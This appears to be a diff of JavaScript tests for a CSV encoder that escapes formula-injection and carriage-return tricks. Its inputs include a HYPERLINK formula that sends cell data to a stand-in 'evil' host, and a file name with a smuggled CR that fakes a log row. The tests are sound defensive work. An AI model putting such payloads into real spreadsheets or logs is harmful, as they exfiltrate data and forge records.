@@ -137,7 +137,7 @@ describe('encodings', () => {
     expect(csvCell('-2')).toBe("'-2");
     expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
     expect(csvCell('\tx')).toBe('"\'\tx"');
-    expect(csvCell('\rx')).toBe('"\'\rx"');
+    expect(csvCell('\rx')).toBe("'[U+000D]x");
     expect(csvCell('=HYPERLINK("http://evil/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil/?""&A1,""click"")"');
     expect(csvCell('秘—設計書.docx')).toBe('秘—設計書.docx');
   });
@@ -166,6 +166,12 @@ describe('encodings', () => {
     const line = csvRow(names).replace(/\r\n$/, '');
     for (const sep of [',', ';', '\t']) for (const f of fields(line, sep)) expect(f, `separator ${JSON.stringify(sep)}`).not.toMatch(/^\s*[=+\-@]/);
     expect(fields(line, ',')).toEqual(names);
+  });
+
+  it('CSV: a CR that does not start a line break is shown, not obeyed: it cannot overwrite the row on a terminal (red team coll7 F14)', () => {
+    const cell = csvCell('report.docx\r2026-12-01T09:00:00Z,hanako@example.co.jp,clean');
+    expect(cell).toBe('"report.docx[U+000D]2026-12-01T09:00:00Z,hanako@example.co.jp,clean"');
+    expect(csvCell('line one\r\nline two\nthree')).toBe('"line one\r\nline two\nthree"');
   });
 
   it('CSV: BOM, header, one CRLF-terminated row per event', () => {
